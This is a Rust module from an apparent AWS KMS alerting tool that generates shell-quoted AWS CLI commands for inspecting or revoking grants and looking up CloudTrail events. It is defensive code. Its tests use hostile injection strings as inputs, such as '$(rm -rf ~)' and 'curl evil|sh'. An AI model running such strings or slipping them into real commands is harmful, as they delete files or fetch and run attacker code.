//! The AWS CLI commands an alert offers: inspect the grant (or what is left
//! on the key), revoke it, look up the CloudTrail event. People copy-paste
//! them into a terminal, so every value from the event is single-quoted
//! when it is not a plain identifier ([`shell_quote`]), and a value that
//! cannot be a real identifier (empty, control characters, whitespace,
//! absurdly long) gets no command at all rather than a misleading one.

use super::describe::{is_removal, key_for_command, region};
use crate::verdict::Verdict;

/// Longest value we put in a command: real key ARNs, grant ids and event
/// ids are far shorter.
pub const MAX_COMMAND_VALUE: usize = 512;

/// What a command is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Purpose {
    /// Show the grant (or the key's remaining grants).
    Inspect,
    /// Remove the grant.
    Revoke,
    /// Show the CloudTrail event itself.
    LookupEvent,
}

impl Purpose {
    pub fn label(self) -> &'static str {
        match self {
            Purpose::Inspect => "Inspect",
            Purpose::Revoke => "Revoke",
            Purpose::LookupEvent => "CloudTrail event",
        }
    }
}

/// One ready-to-paste command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CliCommand {
    pub purpose: Purpose,
    pub command: String,
}

/// The commands for a verdict:
/// - a grant that exists (successful CreateGrant): `aws kms list-grants
///   --key-id K --grant-id G --region R` and `aws kms revoke-grant --key-id
///   K --grant-id G --region R`;
/// - a removal or a failed call: `aws kms list-grants --key-id K --region R`
///   (what is left on the key);
/// - always, when the event id is usable: `aws cloudtrail lookup-events`.
pub fn commands(v: &Verdict) -> Vec<CliCommand> {
    let mut out = Vec::new();
    let region_arg = region(v)
        .filter(|r| usable(r))
        .map(|r| format!(" --region {}", shell_quote(r)))
        .unwrap_or_default();
    let key = key_for_command(v).filter(|k| usable(k));
    let grant = v.grant_id.as_deref().filter(|g| usable(g));
    let grant_exists = !is_removal(v) && v.error_code.is_none() && !v.dry_run;

    if let Some(key) = key {
        let key = shell_quote(key);
        match grant.filter(|_| grant_exists) {
            Some(grant) => {
                let grant = shell_quote(grant);
                out.push(CliCommand {
                    purpose: Purpose::Inspect,
                    command: format!(
                        "aws kms list-grants --key-id {key} --grant-id {grant}{region_arg}"
                    ),
                });
                out.push(CliCommand {
                    purpose: Purpose::Revoke,
                    command: format!(
                        "aws kms revoke-grant --key-id {key} --grant-id {grant}{region_arg}"
                    ),
                });
            }
            None => out.push(CliCommand {
                purpose: Purpose::Inspect,
                command: format!("aws kms list-grants --key-id {key}{region_arg}"),
            }),
        }
    }
    if usable(&v.event_id) {
        let attribute = shell_quote(&format!(
            "AttributeKey=EventId,AttributeValue={}",
            v.event_id
        ));
        out.push(CliCommand {
            purpose: Purpose::LookupEvent,
            command: format!(
                "aws cloudtrail lookup-events --lookup-attributes {attribute}{region_arg}"
            ),
        });
    }
    out
}

/// A value that can be a real identifier: non-empty, not too long, no
/// whitespace or control characters.
fn usable(s: &str) -> bool {
    !s.is_empty()
        && s.chars().count() <= MAX_COMMAND_VALUE
        && !s.chars().any(|c| c.is_whitespace() || c.is_control())
}

/// Quote a value for a POSIX shell: as is when it holds only characters no
/// shell treats specially, else in single quotes with each `'` written as
/// `'\''`.
pub fn shell_quote(s: &str) -> String {
    let plain = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c));
    if plain {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::render::testkit::{manual_grant, removal_of_lambda_grant};

    #[test]
    fn shell_quote_leaves_identifiers_and_quotes_the_rest() {
        assert_eq!(
            shell_quote("arn:aws:kms:eu-west-1:111:key/abc"),
            "arn:aws:kms:eu-west-1:111:key/abc"
        );
        assert_eq!(shell_quote("a b"), "'a b'");
        assert_eq!(shell_quote("$(rm -rf ~)"), "'$(rm -rf ~)'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("`id`;x"), "'`id`;x'");
        assert_eq!(shell_quote(""), "''");
    }

    #[test]
    fn grant_that_exists_gets_inspect_and_revoke() {
        let cmds = commands(&manual_grant());
        let key = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";
        let grant = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
        assert_eq!(
            cmds[0].command,
            format!("aws kms list-grants --key-id {key} --grant-id {grant} --region eu-west-1")
        );
        assert_eq!(cmds[0].purpose, Purpose::Inspect);
        assert_eq!(
            cmds[1].command,
            format!("aws kms revoke-grant --key-id {key} --grant-id {grant} --region eu-west-1")
        );
        assert_eq!(cmds[1].purpose, Purpose::Revoke);
        assert_eq!(
            cmds[2].command,
            "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue=11111111-2222-3333-4444-555555555555 --region eu-west-1"
        );
    }

    #[test]
    fn removal_and_failed_calls_get_no_revoke() {
        let cmds = commands(&removal_of_lambda_grant());
        assert!(cmds.iter().all(|c| c.purpose != Purpose::Revoke));
        assert!(cmds[0]
            .command
            .starts_with("aws kms list-grants --key-id arn:"));
        assert!(!cmds[0].command.contains("--grant-id"));

        let mut denied = manual_grant();
        denied.error_code = Some("AccessDenied".into());
        denied.grant_id = None;
        assert!(commands(&denied)
            .iter()
            .all(|c| c.purpose != Purpose::Revoke));
    }

    #[test]
    fn hostile_values_are_quoted_or_dropped() {
        let mut v = manual_grant();
        v.key_arn = Some("k'; curl evil|sh; '".into());
        v.grant_id = Some("g$(id)".into());
        let cmds = commands(&v);
        // Whitespace: the key cannot be real, so no kms command.
        assert!(cmds.iter().all(|c| !c.command.contains("kms")));

        v.key_arn = Some("k';curl|sh;'".into());
        let cmds = commands(&v);
        assert_eq!(
            cmds[1].command,
            r"aws kms revoke-grant --key-id 'k'\'';curl|sh;'\''' --grant-id 'g$(id)' --region eu-west-1"
        );

        v.event_id = "x".repeat(MAX_COMMAND_VALUE + 1);
        assert!(commands(&v)
            .iter()
            .all(|c| c.purpose != Purpose::LookupEvent));
    }
}
